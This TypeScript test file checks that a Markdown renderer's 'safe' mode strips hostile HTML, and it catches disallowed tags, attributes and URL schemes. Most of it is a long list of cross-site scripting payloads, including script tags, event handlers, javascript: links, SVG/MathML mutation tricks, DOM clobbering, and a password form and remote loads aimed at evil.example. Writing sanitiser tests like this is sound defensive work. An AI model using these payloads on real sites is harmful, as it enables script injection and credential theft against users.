import type { Element, Root } from 'hast'
import { toHtml } from 'hast-util-to-html'
import { describe, expect, it } from 'vitest'
import { parseHtml } from '../../../src/content/markdown/engine.ts'
import { eachElement } from '../../../src/content/markdown/html/tree.ts'
import { renderHtml } from '../../../src/content/markdown/render.ts'

/** Each would run something, load something, or take over a name or the page, if it came through. */
const vectors: readonly string[] = [
  '<script>alert(1)</script>',
  'text <script src="https://evil.example/x.js"></script>',
  '<SCRIPT>alert(1)</SCRIPT >',
  '<script\n>alert(1)</script\n>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script>alert(1)',
  '<img src=x onerror=alert(1)>',
  '<img src=x OnErRoR="alert(1)">',
  '<img/src=x/onerror=alert(1)>',
  '<img src=x onerror\n=\nalert(1)>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img """><script>alert(1)</script>">',
  '<img src="javascript:alert(1)">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img srcset="javascript:alert(1) 1x">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
  '<svg><set attributeName=href to=javascript:alert(1)>',
  '<svg><use href="data:image/svg+xml,<svg id=x onload=alert(1)>#x"/></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<math href="javascript:alert(1)">x</math>',
  '<math><annotation-xml encoding="text/html"><script>alert(1)</script></annotation-xml></math>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<a href="javascript:alert(1)">x</a>',
  '<a href="JaVaScRiPt:alert(1)">x</a>',
  '<a href="java\tscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java&NewLine;script&colon;alert(1)">x</a>',
  '<a href="&#106;&#97;vascript:alert(1)">x</a>',
  '<a href=" &#1; javascript:alert(1)">x</a>',
  '<a href="javascript&#58;alert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="blob:https://x/1">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="https://x" onclick="alert(1)">x</a>',
  '<a href="https://x" target="_blank" ping="https://evil.example">x</a>',
  '[x](javascript:alert(1))',
  '[x](<java\tscript:alert(1)>)',
  '[x](&#x6A;avascript:alert(1))',
  '[x](JAVASCRIPT:alert(1) "t")',
  '[x](data:text/html,<script>alert(1)</script>)',
  '[x][y]\n\n[y]: javascript:alert(1)',
  '<javascript:alert(1)>',
  '<vbscript:alert(1)>',
  '![x](javascript:alert(1))',
  '![x" onerror="alert(1)](y.png)',
  '![x](y.png "t\\" onerror=\\"alert(1)")',
  '[x](https://e.example/"onmouseover="alert(1))',
  '[x](https://e.example "t\' onclick=\'alert(1)")',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>">',
  '<object data="javascript:alert(1)"></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code="x"></applet>',
  '<base href="https://evil.example/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css";</style>',
  '<p style="position:fixed;inset:0;background:url(javascript:alert(1))">x</p>',
  '<form action="https://evil.example"><input name=password><button>Go</button></form>',
  '<button formaction="javascript:alert(1)">x</button>',
  '<input type="image" src=x onerror=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<select><style></select><img src=x onerror=alert(1)>',
  '<textarea></textarea><img src=x onerror=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<video><source onerror=alert(1)></video>',
  '<video src="javascript:alert(1)" poster="javascript:alert(1)"></video>',
  '<audio src=x onerror=alert(1)>',
  '<body onload=alert(1)>',
  '<html onmouseover=alert(1)><head><script>alert(1)</script></head></html>',
  '<frameset onload=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
  '<noembed><img title="</noembed><img src=x onerror=alert(1)>"></noembed>',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>"></xmp>',
  '<title><p title="</title><img src=x onerror=alert(1)>"></title>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<!--><img src=x onerror=alert(1)>-->',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<?xml version="1.0"?><img src=x onerror=alert(1)>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">x</table>',
  '<div id="location" name="cookie">x</div><a id="document" name="forms">y</a>',
  '<img name="getElementById" id="body" src="x">',
  '<x-widget onclick=alert(1) is="x">y</x-widget>',
  '<p is="evil-element" slot="x" part="y" contenteditable autofocus tabindex=1 accesskey=x>z</p>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<dialog open><p>Log in</p></dialog>',
  '<portal src="https://evil.example"></portal>',
  '<q cite="javascript:alert(1)">x</q><blockquote cite="javascript:alert(1)">y</blockquote>',
  '<b class="site-header anchor callout">x</b>',
  '`` ` `` <b onclick=alert(1)>x</b> `<script>alert(1)</script>`',
  '```"onmouseover="alert(1)\nx\n```',
  '```js onclick=alert(1) "><script>alert(1)</script>\n</code></pre><script>alert(1)</script>\n```',
  '```js title="<img src=x onerror=alert(1)>"\nx\n```',
  '```js:"onclick="alert(1).js\nx\n```',
  '![a](b.png "<img src=x onerror=alert(1)>")',
  '<pre><code data-file="<script>alert(1)</script>">x</code></pre>',
  '# <img src=x onerror=alert(1)> heading "><script>alert(1)</script>',
  '| <script>alert(1)</script> | "><img src=x onerror=alert(1)> |\n|---|---|\n| <svg/onload=alert(1)> | x |',
  '> [!"><script>alert(1)</script>] <img src=x onerror=alert(1)>',
  '> [!note" onclick="alert(1)]- T\n> x',
  '[^"onclick="alert(1)]\n\n[^"onclick="alert(1)]: <script>alert(1)</script>',
  '==<script>alert(1)</script>== ==<img src=x onerror=alert(1)>==',
  '- [ ] <input type=checkbox onclick=alert(1)>',
  '<a href="https://x"><a href="javascript:alert(1)">x</a></a>',
  '<p><b><p><i onclick=alert(1)></b></p></i>',
  '<a href="//evil.example" download rel="opener">x</a>\n\n<div\nonclick\n=\nalert(1)>\n\n# x\n\n</div>',
  '\u0000<script>alert(1)</script>',
  '<\u0000script>alert(1)</script>',
  '<img src=x:alert(alt) onerror=eval(src) alt=0>',
]

const expected = new Set(
  'a aside audio b blockquote br code details div em figcaption figure h2 h3 hr i img input li mark ol p pre q section source span strong summary sup table tbody td th thead tr ul video'.split(
    ' ',
  ),
)
const properties = new Set(
  'align alt ariaDescribedBy ariaHidden ariaLabel checked className controls dataCallout dataFootnoteBackref dataFootnoteRef dataFootnotes decoding disabled href id loading open role src tabIndex title type'.split(
    ' ',
  ),
)
const classes =
  /^(anchor|callout|callout-title|code-block|code-file|code-head|contains-task-list|data-footnote-backref|footnotes|language-\S+|picture|sr-only|table-scroll|task-list-item)$/

/** What in a tree could do harm; empty for a good one. */
function harmIn(root: Root): string[] {
  const harm: string[] = []
  eachElement(root, (element) => {
    if (!expected.has(element.tagName)) harm.push(`<${element.tagName}>`)
    harm.push(...Object.entries(element.properties).flatMap(([name, value]) => harmOf(element, name, value)))
  })
  return harm
}

function harmOf({ tagName, properties: all }: Element, name: string, value: unknown): string[] {
  if (!properties.has(name)) return [`${tagName} ${name}`]
  const isAddress = name === 'href' || name === 'src'
  if (isAddress && !['http:', 'https:', 'mailto:'].includes(new URL(String(value), 'https://base.example/').protocol))
    return [`${name}=${String(value)}`]
  if (name === 'type' && tagName === 'input' && (value !== 'checkbox' || all.disabled !== true)) return ['input']
  if (name === 'id' && /^(location|cookie|document|body)$/.test(String(value))) return [`id=${String(value)}`]
  if (name === 'tabIndex' && value !== 0) return ['tabindex']
  if (name === 'className' && tagName === 'b') return [`class=${String(value)}`]
  if (name === 'className' && Array.isArray(value)) return value.map(String).filter((item) => !classes.test(item))
  return []
}

describe('raw HTML and hostile Markdown', () => {
  it.each(vectors)('come out harmless: %j', async (vector) => {
    for (const markdown of [
      vector,
      `text ${vector} text`,
      `> ${vector}`,
      `- a\n\n  ${vector}`,
      `<div>\n\n${vector}\n\n</div>`,
    ]) {
      const tree = parseHtml(await renderHtml(markdown, { html: 'safe' }))
      expect(harmIn(tree)).toEqual([])
    }
  })

  it.each(vectors)('are not changed by being read and written again: %j', async (vector) => {
    const html = toHtml(parseHtml(await renderHtml(vector, { html: 'safe' })))
    expect(harmIn(parseHtml(html))).toEqual([])
    expect(toHtml(parseHtml(html))).toBe(html)
  })

  it('never leave a code point that no document may hold', async () => {
    const html = await renderHtml('a\u0007b&#27;c \ufffe `\u009f`', { html: 'safe' })
    expect(html).toBe('<p>a\ufffdb\ufffdc \ufffd <code>\ufffd</code></p>')
  })

  it('leave no image or source without an address: its alternative text stays', async () => {
    const empty = '<picture><source><img src="" alt="A map"></picture> <img src="" onerror="x()">'
    expect(await renderHtml(empty, { html: 'safe' })).toBe('<p><picture>A map</picture> </p>')
  })

  it('are told from harmless HTML, which stays', async () => {
    const good = '<a href="https://example.org">x</a> <kbd>Ctrl</kbd> <sub>2</sub> <img src="/a.png" alt="b" width="3">'
    const html = await renderHtml(good, { html: 'safe' })
    for (const part of ['<a href="https://example.org">x</a>', '<kbd>Ctrl</kbd>', '<sub>2</sub>', 'width="3"'])
      expect(html).toContain(part)
  })

  it('stay as written when the owner trusts them', async () => {
    const html = await renderHtml('a <b onclick="x()">c</b>\n\n<script>run()</script>', { html: 'trusted' })
    expect(html).toContain('<b onclick="x()">c</b>')
    expect(html).toContain('<script>run()</script>')
  })
})
